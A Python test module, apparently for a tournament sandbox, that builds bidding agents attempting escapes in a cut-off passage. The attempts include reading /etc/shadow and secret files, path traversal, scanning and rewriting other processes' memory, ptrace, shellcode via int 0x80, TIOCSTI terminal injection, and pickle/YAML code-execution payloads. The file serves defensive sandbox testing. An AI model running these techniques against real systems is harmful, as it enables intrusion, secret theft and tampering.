"""Lines 24–53 of the list of attacks: secrets, reaching out, the channel back, and inside Python.

Each agent bids 1 and strikes in its fifth round. What it was refused it prints as ``refused``, so that a failing test
shows how far it came. Whatever could do harm is called with arguments that the kernel turns down itself (a wrong magic
number, a path that is not there): such an error, rather than `EPERM` or `ENOSYS`, tells that the call was let through.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from textwrap import indent

from tests.attacks.attack import Attack, Evidence

_AGENT = """
import ctypes, errno, os, re, sys, time
from types import GeneratorType
from base_agent import BiddingAgent

OWN = os.path.dirname(os.path.abspath(__file__))
SECRET = b"<<secret>>"
HIDDEN = re.compile(SECRET)
ORGANISER = <<organiser>>
ANSWER = sys.modules["agt_tournament.sandbox.inside.protocol"].ANSWER
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def reached(what):
    print("REACHED", what, flush=True)


def attempt(work, *arguments, **options):
    try:
        return work(*arguments, **options)
    except (OSError, ValueError, OverflowError) as error:
        print("refused:", error)


def content(path, **options):
    "Of a file; nothing where it cannot be had."
    descriptor = attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK, **options)
    if descriptor is None:
        return b""
    try:
        with open(descriptor, "rb") as file:
            return file.read()
    except OSError as error:
        print("refused:", error)
        return b""


def hunt(*paths, **options):
    "Look for the secret in files."
    for path in paths:
        if SECRET in content(path, **options):
            reached(path)


def call(name, *arguments):
    "Result and error of a system call: no function of libc, no audit hook stands between."
    number = NUMBERS[name][os.uname().machine == "aarch64"]
    if number is None:
        return -1, errno.ENOSYS
    ctypes.set_errno(0)
    plain = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *plain)
    return result, ctypes.get_errno() if result == -1 else 0


def let_through(name, *arguments, note=""):
    "Whether the kernel itself looked at a system call; its result."
    result, error = call(name, *arguments)
    if error in (errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT):
        print("refused:", name, note, errno.errorcode[error])
        return None
    reached(f"{name} {note} ({result}, {errno.errorcode.get(error, 'no error')})")
    return result


def close(descriptor):
    if descriptor is not None and descriptor >= 0:
        os.close(descriptor)


def relatives():
    "The organiser and whoever it has started, as far as they can be seen; never anybody else."
    found = [ORGANISER]
    for name in attempt(os.listdir, "/proc") or ():
        if name.isdecimal() and int(name) != os.getpid():
            try:
                stat = open(f"/proc/{name}/stat").read()
            except OSError:
                continue
            if int(stat.rpartition(")")[2].split()[1]) == ORGANISER:
                found.append(int(name))
    return found


def search(pid, needle, seconds=0.12):
    "Places of the pattern `needle` in the memory of `pid`; None whenever the turn is over, -1 at the end."
    began, descriptor = time.perf_counter(), attempt(os.open, f"/proc/{pid}/mem", os.O_RDONLY)
    regions = [line.split() for line in content(f"/proc/{pid}/maps").decode().splitlines()] if descriptor else []
    for region in regions:
        if not region[1].startswith("rw") or len(region) > 5 and region[5].startswith(("[v", "/")):
            continue
        place, end = (int(each, 16) for each in region[0].split("-"))
        while place < end:
            if time.perf_counter() - began > seconds:
                yield None
                began = time.perf_counter()
            try:
                data = os.pread(descriptor, min(1 << 21, end - place), place)
            except OSError as error:
                print("refused:", error)
                break
            if found := needle.search(data):
                yield place + found.start()
            place += len(data) or end
    close(descriptor)
    yield -1


def in_the_organiser(what):
    "Leave a mark if this runs where the games are played."
    if "agt_tournament.tournament.agent_manager" in sys.modules:
        os.mkdir("<<scratch>>/" + what)


def runner_frame():
    frame = sys._getframe()
    while frame and not {"answers", "player"} <= frame.f_locals.keys():
        frame = frame.f_back
    return frame


NUMBERS = {numbers}

{head}


def strike(self):
{strike}


class Agent(BiddingAgent):
    turn, steps = 0, None

    def bidding_function(self, item_id):
        self.turn += 1
        if self.turn < 5:
            return 1.0
        if self.turn == 5:
            self.steps = strike(self)
            if not isinstance(self.steps, (GeneratorType, type(None))):
                return self.steps
        if isinstance(self.steps, GeneratorType):  # an attack of several rounds, which may yield a bid for each
            bid = next(self.steps, None)
            return 1.0 if bid is None else bid
        return 1.0
"""

_NUMBERS: dict[str, tuple[int | None, int | None]] = {  # on x86-64 and on ARM
    "acct": (163, 89),
    "add_key": (248, 217),
    "adjtimex": (159, 171),
    "bpf": (321, 280),
    "chroot": (161, 51),
    "clone": (56, 220),
    "clone3": (435, 435),
    "delete_module": (176, 106),
    "execveat": (322, 281),
    "fanotify_init": (300, 262),
    "fsopen": (430, 430),
    "fspick": (433, 433),
    "init_module": (175, 105),
    "inotify_add_watch": (254, 27),
    "inotify_init1": (294, 26),
    "io_uring_setup": (425, 425),
    "ioctl": (16, 29),
    "ioprio_set": (251, 30),
    "kcmp": (312, 272),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "memfd_create": (319, 279),
    "memfd_secret": (447, 447),
    "mount": (165, 40),
    "mount_setattr": (442, 442),
    "move_mount": (429, 429),
    "mq_open": (240, 180),
    "msgget": (68, 186),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "openat2": (437, 437),
    "perf_event_open": (298, 241),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "prlimit64": (302, 261),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "ptrace": (101, 117),
    "reboot": (169, 142),
    "request_key": (249, 218),
    "sched_setaffinity": (203, 122),
    "sched_setscheduler": (144, 119),
    "semget": (64, 190),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "setpriority": (141, 140),
    "shmget": (29, 194),
    "socket": (41, 198),
    "swapon": (167, 224),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
}
QUIET: frozenset[str | None] = frozenset({None})


def reached(evidence: Evidence) -> bool:
    """It says itself that it got there."""
    return re.search(r"^REACHED", evidence.printed, re.MULTILINE) is not None


def harmed(evidence: Evidence) -> bool:
    """What an attack would do that the organiser's own checks stop: no wall is needed against it."""
    return evidence.organiser_hit or bool(evidence.left or evidence.written or evidence.connections)


def heard(*listeners: str) -> Callable[[Evidence], bool]:
    """One of `listeners` heard of it, or it says itself that it got there."""
    return lambda evidence: bool({*listeners} & {*evidence.connections}) or reached(evidence)


def _attack(
    number: int,
    name: str,
    strike: str,
    errors: frozenset[str | None] = QUIET,
    succeeded: Callable[[Evidence], bool] = reached,
    head: str = "",
    *,
    long: bool = False,
) -> Attack:
    """An agent that does what `strike`, the body of a function of the agent `self`, says in its fifth round.

    What it returns or, over several rounds, yields is bid; `head` stands before it in the module.
    """
    source = _AGENT.replace("{numbers}", repr(_NUMBERS)).replace("{head}", head)
    return Attack(number, name, source.replace("{strike}", indent(strike, "    ")), errors, succeeded, long)


def _errors(*errors: str | None) -> frozenset[str | None]:
    return frozenset(errors)


FILES = [
    _attack(
        24,
        "system files",
        """
hunt("<<secret_file>>")
for path in ("/etc/passwd", "/etc/shadow"):
    if b"root:" in content(path):
        reached(path)
""",
    ),
    _attack(
        24,
        "other sandboxes",
        """
rival = "<<rival_folder>>"
if os.path.basename(rival) in (attempt(os.listdir, os.path.dirname(rival)) or ()):
    reached("the list of teams")
for pid in relatives():
    if where := attempt(os.readlink, f"/proc/{pid}/cwd"):
        reached(f"process {pid} in {where}")
""",
    ),
    _attack(
        25,
        "rivals and logs",
        """
hunt("<<rival_folder>>/bidding_agent.py", "<<run_dir>>/config.yaml")
for folder, _, names in os.walk("<<run_dir>>"):
    hunt(*(os.path.join(folder, name) for name in names))
""",
    ),
    _attack(
        25,
        "a watch on the run directory",  # no landlock rule is about these
        """
descriptor = let_through("inotify_init1", 0)
if descriptor is not None:
    let_through("inotify_add_watch", descriptor, b"<<run_dir>>", 0x100, note="on the run directory")
    close(descriptor)
close(let_through("fanotify_init", 0, 0))
""",
    ),
    _attack(
        25,
        "the rights of files",  # no landlock rule is about these
        """
path = "<<secret_file>>"
status = attempt(os.stat, path)
if status:
    def tried(work, *arguments, **options):
        attempt(lambda: (work(path, *arguments, **options), reached(work.__name__)))

    tried(os.chmod, status.st_mode & 0o7777)
    tried(os.chown, status.st_uid, status.st_gid)
    tried(os.utime, ns=(status.st_atime_ns, status.st_mtime_ns))
    tried(os.setxattr, "user.note", b"x")
    tried(os.removexattr, "user.note")
descriptor = attempt(os.open, path, os.O_PATH)
if descriptor is not None and status:
    attempt(lambda: (os.chmod(f"/proc/self/fd/{descriptor}", status.st_mode & 0o7777), reached("chmod by descriptor")))
""",
    ),
    _attack(
        26,
        "a symlink out",
        """
for folder in (OWN, "/tmp", "/dev/shm", "<<scratch>>"):
    for link in (os.symlink, os.link):
        name = f"{folder}/<<marker>>"
        attempt(link, "<<secret_file>>", name)
        hunt(name)
        attempt(os.unlink, name)
""",
    ),
    _attack(
        27,
        "path traversal",
        r"""
path = "<<secret_file>>"
relative = os.path.relpath(path, OWN)
root = attempt(os.open, "/", os.O_PATH)
hunt(path, "//" + path, relative, f"{OWN}/{relative}", f"/proc/self/cwd/{relative}", f"{sys.prefix}/../../../..{path}")
hunt("bidding_agent.py\0/../" + relative, path + "\0.py")
if root is not None:
    hunt(path[1:], dir_fd=root)
    hunt("usr/.." + path, dir_fd=root)
how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
for given in (path.encode() + b"\0.py", relative.encode()):
    descriptor, _ = call("openat2", -100, given, how, 24)
    if descriptor >= 0:
        reached(given)
        close(descriptor)
    descriptor = libc.open(given, os.O_RDONLY)
    if descriptor >= 0:
        reached(given)
        close(descriptor)
""",
    ),
    _attack(
        28,
        "the roots of processes",
        """
for pid in {1, os.getppid(), "self", *relatives()}:
    hunt(f"/proc/{pid}/root<<secret_file>>", f"/proc/{pid}/task/{pid}/root<<secret_file>>")
    if isinstance(pid, int):
        hunt(f"/proc/{pid}/cwd/" + os.path.relpath("<<secret_file>>", attempt(os.readlink, f"/proc/{pid}/cwd") or "/"))
""",
    ),
    _attack(
        28,
        "a handle of a file",
        """
let_through("open_by_handle_at", 0, (ctypes.c_uint32 * 32)(), os.O_RDONLY)
""",
    ),
    _attack(
        29,
        "environment secrets",
        """
libc.getenv.restype = ctypes.c_char_p
held = [os.environ.get("AUCTION_SECRET", "").encode(), libc.getenv(b"AUCTION_SECRET") or b""]
held += [content(f"/proc/{pid}/environ") for pid in ("self", 1, os.getppid(), *relatives())]
for environment in held:
    if SECRET in environment:
        reached(environment[-400:])
allowed = {"PATH", "LANG", "LC_CTYPE", "PYTHONHASHSEED", "PWD"}
if more := {name for name in os.environ if name not in allowed and not name.endswith("_NUM_THREADS")}:
    reached(more)
""",
    ),
    _attack(
        30,
        "inherited descriptors",
        """
import stat

sockets, ends = set(), runner_frame().f_locals
for descriptor in range(4096):
    try:
        status = os.fstat(descriptor)
    except OSError:
        continue
    if stat.S_ISSOCK(status.st_mode):
        sockets.add(status.st_ino)
    elif not (stat.S_ISCHR(status.st_mode) and status.st_rdev == os.makedev(1, 3)):
        reached(f"descriptor {descriptor} of mode {status.st_mode:o}")
if extra := sockets - {os.fstat(each).st_ino for each in (1, 2, ends["requests"], ends["answers"])}:
    reached(f"sockets {extra}")
""",
    ),
    _attack(
        30,
        "descriptors of the organiser",
        """
for pid in {ORGANISER, os.getppid()}:
    hunt(f"/proc/{pid}/fd/<<descriptor>>")
    for name in attempt(os.listdir, f"/proc/{pid}/fd") or ():
        if where := attempt(os.readlink, f"/proc/{pid}/fd/{name}"):
            reached(f"the descriptor {name} of {pid}: {where}")
""",
    ),
    _attack(
        31,
        "memory and environ of others",
        """
class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]

here = Piece(ctypes.cast(ctypes.create_string_buffer(8), ctypes.c_void_p), 8)
for pid in relatives():
    for name in ("cmdline", "environ", "maps", "stat", "status"):
        if (text := content(f"/proc/{pid}/{name}")) and pid != os.getpid():
            reached(f"{name} of {pid}: {text[:80]}")
    there = Piece(0x10000, 8)
    let_through("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    let_through("process_vm_writev", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    let_through("kcmp", pid, pid, 0, 0, 0)
for place in search(ORGANISER, HIDDEN):
    if place:
        if place > 0:
            reached(f"the secret at {place:x} of the organiser")
        return
    yield
""",
    ),
]

REACHING_OUT = [
    _attack(
        32,
        "network by name and address",
        """
import socket

for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1"):
    connection = attempt(socket.create_connection, (host, <<tcp_port>>), 0.05)
    if connection:
        reached(f"{host}: {connection.recv(99)}")
        connection.close()
server = attempt(socket.socket)
if server:
    attempt(lambda: (server.bind(("127.0.0.1", 0)), server.listen(), reached("a server")))
    server.close()
""",
        succeeded=heard("tcp"),
    ),
    _attack(
        32,
        "network without connect",  # landlock has looked at bind and connect of plain TCP only
        """
import socket

fast = attempt(socket.socket)
if fast:
    attempt(lambda: (fast.sendto(b"x", 0x20000000, ("127.0.0.1", <<tcp_port>>)), reached("TCP fast open")))
    fast.close()
paths = attempt(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262)
if paths:
    paths.settimeout(0.05)
    attempt(lambda: (paths.connect(("127.0.0.1", <<tcp_port>>)), reached("MPTCP")))
    paths.close()
""",
        succeeded=heard("tcp"),
    ),
    _attack(
        32,
        "network by raw calls",
        """
import socket, struct

descriptor = let_through("socket", 2, 1, 0, note="of TCP")
if descriptor is not None:
    address = struct.pack("=HH4s8x", 2, socket.htons(<<tcp_port>>), socket.inet_aton("127.0.0.1"))
    if libc.connect(descriptor, address, 16) == 0:
        reached("the listener")
    close(descriptor)
if os.uname().machine == "x86_64" and (descriptor := libc.syscall(ctypes.c_long(0x40000000 | 41), 2, 1, 0)) >= 0:
    reached("a socket of the x32 calls")
    close(descriptor)
""",
        errors=_errors(None, "crash"),  # a filter may end whoever makes calls of another kind
        succeeded=heard("tcp"),
    ),
    _attack(
        32,
        "the calls of 32 bits",  # a filter that knows only the numbers of 64 bits lets them through
        r"""
import mmap

if os.uname().machine == "x86_64":
    code = attempt(mmap.mmap, -1, 4096, prot=7)
    if code:  # eax = socket(AF_UNIX, SOCK_STREAM, 0)
        code.write(b"\x53\xb8\x67\x01\0\0\xbb\1\0\0\0\xb9\1\0\0\0\x31\xd2\xcd\x80\x5b\xc3")
        where = ctypes.addressof(ctypes.c_char.from_buffer(code))
        descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(where)()
        print("refused: a socket by int 0x80", descriptor, flush=True)
        if descriptor >= 0:
            reached("a socket by int 0x80")
            close(descriptor)
""",
        errors=_errors(None, "crash"),  # not every kernel has them
    ),
    _attack(
        33,
        "a datagram",
        """
import socket

sender = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
if sender:
    sender.settimeout(0.1)
    attempt(lambda: (sender.sendto(b"x", ("127.0.0.1", <<udp_port>>)), reached(sender.recv(99))))
    sender.close()
""",
        succeeded=heard("udp"),
    ),
    _attack(
        34,
        "unix sockets",
        r"""
import socket

for address in ("<<unix_socket>>", "\0<<abstract_name>>"):
    connection = attempt(socket.socket, socket.AF_UNIX)
    if connection:
        connection.settimeout(0.1)
        attempt(lambda: (connection.connect(address), reached(connection.recv(99))))
        connection.close()
server = attempt(socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)
if server:
    attempt(lambda: (server.bind("\0<<marker>>"), reached("an abstract name that others can send to")))
    server.close()
""",
        succeeded=heard("unix", "abstract"),
    ),
    _attack(
        35,
        "a written program",
        """
for folder in (OWN, "/tmp", "/dev/shm", "/var/tmp", "<<scratch>>"):
    path = f"{folder}/<<marker>>.py"
    try:
        with open(path, "w") as file:
            print(f"#!{sys.executable}", "import os", f"os.unlink({path!r})", sep="\\n", file=file)
            print(f"print('REACHED', {path!r}, flush=True)", file=file)
        os.chmod(path, 0o700)
        os.execv(path, [path])
    except OSError as error:
        print("refused:", error, flush=True)
    attempt(os.unlink, path)
""",
        errors=_errors(None, "exit"),
    ),
    _attack(
        36,
        "ptrace of the organiser",
        """
seize, interrupt, detach, any_child = 0x4206, 0x4207, 17, 0x40000000
for pid in {ORGANISER, os.getppid()} - {0, 1}:
    if call("ptrace", seize, pid, 0, 0)[0] == 0:
        reached(f"process {pid}")
        call("ptrace", interrupt, pid, 0, 0)
        end = time.monotonic() + 0.2
        while os.waitpid(pid, any_child | os.WNOHANG)[0] != pid and time.monotonic() < end:
            time.sleep(0.001)
        call("ptrace", detach, pid, 0, 0)
    else:
        print("refused: ptrace of", pid)
""",
    ),
    _attack(
        36,
        "the parent made its tracer",  # who waits for a traced child is told of a stop as of an end
        """
import signal

result, error = call("ptrace", 0, 0, 0, 0)
if result == 0:
    reached("it is traced by its parent")
    ends = runner_frame().f_locals
    os.close(ends["answers"])
    os.kill(os.getpid(), signal.SIGSTOP)
    os._exit(0)
print("refused:", errno.errorcode[error])
""",
        errors=_errors(None, "exit", "crash"),
    ),
    _attack(
        37,
        "reboot and mount",
        """
nowhere = b"/nonexistent-<<marker>>"
let_through("reboot", 0xDEAD, 0xDEAD, 0, 0)
let_through("kexec_load", 0, 1 << 20, 0, 0)
let_through("mount", b"none", nowhere, b"tmpfs", 0, 0)
let_through("umount2", nowhere, 0)
let_through("pivot_root", nowhere, nowhere)
let_through("chroot", nowhere)
close(let_through("fsopen", b"tmpfs", 0))
close(let_through("fspick", -100, nowhere, 0))
close(let_through("open_tree", -100, nowhere, 0))
let_through("move_mount", -1, b"", -1, b"", 0)
let_through("mount_setattr", -1, b"", 0, 0, 0)
let_through("init_module", 0, 0, b"")
let_through("delete_module", b"nonexistent", os.O_NONBLOCK)
let_through("swapon", nowhere, 0)
let_through("acct", nowhere)
let_through("sethostname", b"", -1)
""",
    ),
    _attack(
        37,
        "keys and io_uring",
        """
let_through("keyctl", 0, -3, 0)
let_through("add_key", b"user", b"auction", b"x", 1, -2)
let_through("request_key", b"user", b"nonexistent", 0, 0)
close(let_through("io_uring_setup", 1, (ctypes.c_uint32 * 30)()))
let_through("bpf", 0, (ctypes.c_uint64 * 16)(), 128)
event = (ctypes.c_uint32 * 28)(1, 112)
event[10] = 0x60  # neither the kernel nor the hypervisor
close(let_through("perf_event_open", event, 0, -1, -1, 0))
close(let_through("userfaultfd", 1))
close(let_through("memfd_create", b"x", 0))
close(let_through("memfd_secret", 0))
""",
    ),
    _attack(
        37,
        "namespaces",
        """
let_through("setns", -1, 0)
let_through("clone", 0x10000200, 0, 0, 0, 0, note="with a user namespace, and a flag that forbids it")
let_through("clone3", 0, 0)
let_through("unshare", 0x04000000, note="of the host name")
let_through("unshare", 0x10000000, note="of the users")
""",
    ),
    _attack(
        37,
        "vsock and other families",
        """
families = {"vsock": 40, "netlink": 16, "packet": 17, "alg": 38, "key": 15, "bluetooth": 31, "xdp": 44, "tipc": 30}
for name, family in families.items():
    for kind in (1, 2, 3, 5):
        close(let_through("socket", family, kind, 0, note=name))
""",
    ),
    _attack(
        37,
        "a program in memory",
        """
descriptor, error = call("memfd_create", b"program", 0)
if descriptor >= 0:
    try:
        with open(os.path.realpath(sys.executable), "rb") as file:
            os.sendfile(descriptor, file.fileno(), 0, 1 << 27)
    except OSError as problem:
        print("refused:", problem, flush=True)
    texts = (sys.executable.encode(), b"-S", b"-c", b"print('REACHED a program in memory', flush=True)")
    arguments = (ctypes.c_char_p * 5)(*texts, None)
    environment = (ctypes.c_char_p * 1)(None)
    error = call("execveat", descriptor, b"", arguments, environment, 0x1000)[1]
print("refused:", errno.errorcode.get(error), flush=True)
""",
        errors=_errors(None, "exit"),
    ),
    _attack(
        37,
        "a descriptor of another process",
        """
for pid in {ORGANISER, os.getppid()}:
    process, error = call("pidfd_open", pid, 0)
    descriptor = -1
    if process >= 0:
        descriptor, error = call("pidfd_getfd", process, <<descriptor>>, 0)
        close(process)
    if descriptor >= 0:
        reached(os.pread(descriptor, 99, 0))
        close(descriptor)
    else:
        print("refused:", errno.errorcode[error])
let_through("pidfd_getfd", -1, 0, 0)
""",
    ),
    _attack(
        37,
        "what outlives its process",
        """
key = 0x41554354
let_through("shmget", key, 0, 0)
let_through("msgget", key, 0)
let_through("semget", key, 0, 0)
let_through("mq_open", b"nonexistent", os.O_RDONLY, 0, 0)
""",
    ),
    _attack(
        38,
        "characters for the terminal",
        """
import fcntl, termios

own = attempt(os.openpty)  # stays open: its end would be a signal to this process
terminals = [0, 1, 2, attempt(os.open, "/dev/tty", os.O_RDWR)]
if own:
    attempt(fcntl.ioctl, own[1], termios.TIOCSCTTY, 0)
    terminals.append(own[1])
    self.kept = own
for terminal in terminals:
    for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32):  # the kernel looks at the lower half only
        if terminal is not None and call("ioctl", terminal, request, b" ")[0] == 0:
            reached(f"the input of terminal {terminal} by {request:#x}")
""",
    ),
]

_FORGING = """
forged = None
write = os.write


def forging(descriptor, answer):  # its header holds the length, the kind and the number of the question
    global forged
    if forged is None:
        return write(descriptor, answer)
    make, forged = forged, None
    return write(descriptor, make(answer))


os.write = forging
"""
_PICKLE = """
import pickle


class Work:
    def __reduce__(self):
        return os.mkdir, ("<<scratch>>/unpickled",)

    def __float__(self):
        return 1.0


PICKLE = pickle.dumps(Work())
YAML = b"!!python/object/apply:os.mkdir ['<<scratch>>/unpickled']"
"""

THE_CHANNEL = [
    _attack(
        39,
        "noise on the channel",
        """
print("59.0", flush=True)
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"59.0\\n" * 20)
    except OSError:
        pass
""",
        errors=_errors("protocol"),
        succeeded=harmed,
    ),
    _attack(
        40,
        "a pickle in the channel",
        """
global forged
forged = lambda answer: PICKLE
""",
        errors=_errors("protocol"),
        succeeded=harmed,
        head=_FORGING + _PICKLE,
    ),
    _attack(
        40,
        "a pickle as a text",
        """
import struct

def made(answer, text):
    return struct.pack("<IB", 10 + len(text), ANSWER) + answer[5:13] + struct.pack("<BBd", 1, 3, float("nan")) + text

global forged
print(YAML.decode(), flush=True)
forged = lambda answer: made(answer, PICKLE)
yield
forged = lambda answer: made(answer, YAML)
yield
""",
        errors=_errors("crash"),
        succeeded=harmed,
        head=_FORGING + _PICKLE,
    ),
    _attack(
        40,
        "a pickle as a bid",
        "return Work()",
        errors=_errors("invalid"),
        succeeded=harmed,
        head=_PICKLE,
    ),
    _attack(
        41,
        "two answers",
        """
global forged
forged = lambda answer: answer + answer
""",
        errors=_errors("protocol"),
        succeeded=harmed,
        head=_FORGING,
    ),
    _attack(
        41,
        "an answer before the question",
        """
import struct, threading

ends = runner_frame().f_locals
answer = struct.pack("<IBQBBd", 10, ANSWER, ends["number"] + 1, 0, 0, 59.0)
try:
    threading.Timer(0.003, os.write, (ends["answers"], answer)).start()
except RuntimeError:  # without threads it is the second answer to this question
    os.write(ends["answers"], answer)
for _ in range(4):
    yield
    time.sleep(0.05)
""",
        errors=_errors("protocol"),
        succeeded=harmed,
    ),
    _attack(
        42,
        "all ends closed",
        "os.closerange(0, 64)",
        errors=_errors("exit"),
        succeeded=harmed,
    ),
    _attack(
        42,
        "its output closed",
        """
os.close(1)
os.close(2)
""",
        succeeded=harmed,
    ),
    _attack(
        42,
        "the answers closed and on it goes",
        """
os.close(runner_frame().f_locals["answers"])
time.sleep(60)
""",
        errors=_errors("exit", "timeout"),  # whoever started it may hold the other end
        succeeded=harmed,
        long=True,
    ),
    _attack(
        42,
        "no more requests",
        'os.close(runner_frame().f_locals["requests"])',
        errors=_errors("exit", "crash"),
        succeeded=harmed,
    ),
    _attack(
        42,
        "answers without end",
        """
import struct

ends = runner_frame().f_locals
while True:
    os.write(ends["answers"], struct.pack("<IBQBBd", 10, ANSWER, 0, 0, 0, 59.0) * 1000)
""",
        errors=_errors("protocol"),
        succeeded=harmed,
    ),
    _attack(
        42,
        "half an answer",
        """
import struct

os.write(runner_frame().f_locals["answers"], struct.pack("<IBQ", 10, ANSWER, 0)[:9])
time.sleep(60)
""",
        errors=_errors("timeout", "protocol"),
        succeeded=harmed,
        long=True,
    ),
    _attack(
        43,
        "text that is none",
        r"""
os.write(1, b"\xff\xfe\x00\xed\xa0\x80" * 50)
raise ValueError("\ud800\udcff\x00\x1b[2J")
""",
        errors=_errors("crash"),
        succeeded=lambda evidence: harmed(evidence) or "\x1b" in evidence.printed,
    ),
    _attack(
        43,
        "a huge number and a deep nesting",
        """
deep = []
for _ in range(100_000):
    deep = [deep]
yield 10**5000
yield deep
yield {"bid": {"bid": 59}}
""",
        errors=_errors("invalid", "crash"),
        succeeded=harmed,
    ),
    _attack(
        43,
        "a deep nesting in the channel",
        """
global forged
forged = lambda answer: b"[" * 50_000
""",
        errors=_errors("protocol"),
        succeeded=harmed,
        head=_FORGING,
    ),
    _attack(
        44,
        "what is no bid",
        """
yield from (float("nan"), float("inf"), -float("inf"), -1.0, -5e-324, True, "59", b"59", np.float64("nan"), [59.0])
""",
        errors=_errors("invalid"),
        succeeded=harmed,
        head="import numpy as np",
    ),
    _attack(
        44,
        "a number with side effects",
        """
class Sly(float):
    def __float__(self):
        in_the_organiser("float")
        return float("inf")

    def __repr__(self):
        in_the_organiser("repr")
        return "59.0"

    def __lt__(self, other):
        in_the_organiser("compare")
        return False

    def __reduce__(self):
        return os.mkdir, ("<<scratch>>/copied",)

    __gt__ = __le__ = __ge__ = __eq__ = __lt__

yield Sly(59.0)
yield Sly("nan")
yield lambda: 59.0
""",
        errors=_errors("invalid"),
        succeeded=harmed,
    ),
    _attack(45, "an end at once", "os._exit(0)", errors=_errors("exit"), succeeded=harmed),
    _attack(45, "SystemExit", "raise SystemExit(3)", errors=_errors("exit"), succeeded=harmed),
    _attack(45, "KeyboardInterrupt", "raise KeyboardInterrupt", errors=_errors("crash", "exit"), succeeded=harmed),
    _attack(
        45,
        "an error of no known kind",
        """
class Unknown(BaseException):
    def __str__(self):
        raise Unknown

    __repr__ = __str__

raise Unknown
""",
        errors=_errors("crash", "exit"),
        succeeded=harmed,
    ),
    _attack(
        46,
        "a segmentation fault that leaves a core",
        """
import resource

_, most = resource.getrlimit(resource.RLIMIT_CORE)
attempt(resource.setrlimit, resource.RLIMIT_CORE, (most, most))
sys.stdout.flush()
ctypes.string_at(0)
""",
        errors=_errors("crash"),
        succeeded=harmed,
    ),
    _attack(
        47,
        "a forged verdict",
        r"""
text = '\x1b[2J\r{"team_id": "random_bidder", "round": 5, "error": "timeout"}\nTraceback (most recent call last):\n'
os.write(2, (text + "the organiser: mallory wins; random_bidder is out (exit)\x07\n").encode())
""",
        succeeded=lambda evidence: harmed(evidence) or any(c in evidence.printed for c in "\x1b\r\x07"),
    ),
]

INSIDE = [
    _attack(
        48,
        "code at import",
        "pass",
        head="""
in_the_organiser("imported")
hunt("<<secret_file>>")
let_through("shmget", 0x41554354, 0, 0)


class Meta(type):
    def __getattribute__(cls, name):
        in_the_organiser("inspected")
        return type.__getattribute__(cls, name)


class Other(metaclass=Meta):
    pass
""",
        succeeded=lambda evidence: reached(evidence) or harmed(evidence),
    ),
    _attack(
        48,
        "code of the constructor",
        "pass",
        head="""
def construct(self, *given):
    in_the_organiser("constructed")
    hunt("<<secret_file>>")
    Base.__init__(self, *given)


Base, BiddingAgent = BiddingAgent, type("Built", (BiddingAgent,), {"__init__": construct})
""",
        succeeded=lambda evidence: reached(evidence) or harmed(evidence),
    ),
    _attack(
        49,
        "its own heap and frames",
        """
import gc

mine = self.valuation_vector
for each in gc.get_objects():
    if type(each) is dict and each is not mine and each.keys() == mine.keys() and each != mine:
        reached(f"valuations {each}")
    if type(each).__module__.startswith(("agt_tournament.game", "agt_tournament.seed", "agt_tournament.config")):
        reached(f"an object of {type(each)}")

def traced(frame, event, argument):
    seen.update((frame.f_code.co_filename, name) for name in frame.f_locals)
    return traced

seen, frame = set(), sys._getframe().f_back
sys.settrace(traced)
while frame:
    seen.update((frame.f_code.co_filename, name) for name in frame.f_locals)
    frame.f_trace, frame = traced, frame.f_back
for place in search("self", re.compile(rb"AUCTION_[S]ECRET=")):  # which does not find itself
    if place:
        if place > 0:
            reached(f"the organiser's environment at {place:x}")
        break
    yield
yield
sys.settrace(None)
organisers = ("_manager.py", "engine.py", "seeding.py", "harness.py", "sandbox.py")
if strange := {each for each in seen if each[0].endswith(organisers)}:
    reached(f"frames {strange}")
""",
    ),
    _attack(
        49,
        "the heaps of the organiser and of rivals",
        """
for pid in relatives():
    for needle in (HIDDEN, re.compile(b'"valuation_vector"')):
        for place in search(pid, needle):
            if place:
                if place > 0:
                    reached(f"{needle.pattern} at {place:x} of {pid}")
                break
            yield
""",
    ),
    _attack(
        50,
        "the state of its own modules",
        """
import gc, random

random.seed(0)
np.random.seed(0)
random.Random.random = lambda self: 0.0
own = {id(np.random.mtrand._rand), id(random._inst)}
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("agt_tournament.sandbox."):  # they draw for this agent alone
        own.update(map(id, [*vars(module).values(), *gc.get_referents(*vars(module).values())]))
for each in gc.get_objects():
    kind = f"{type(each).__module__}.{type(each).__name__}"
    if id(each) not in own and kind in ("random.Random", "numpy.random._generator.Generator"):
        reached(f"a {kind}")
    if kind == "agt_tournament.game.seeding.GameSeeds":
        reached(each)
""",
        head="import numpy as np",
        succeeded=lambda evidence: reached(evidence) or harmed(evidence),
    ),
    _attack(
        50,
        "the memory of the organiser rewritten",  # with what is there
        """
for place in search(ORGANISER, HIDDEN):
    if place:
        if place > 0:
            with open(f"/proc/{ORGANISER}/mem", "r+b", buffering=0) as memory:
                memory.seek(place)
                memory.write(SECRET)
            reached(f"{place:x} of the organiser")
        return
    yield
""",
    ),
    _attack(
        51,
        "the runner and the clock of Python",
        """
import json, math

runner = sys._getframe(2).f_globals
runner["as_bid"] = lambda value: value
math.isfinite = lambda value: True
json.loads = json.dumps = lambda *given: {}
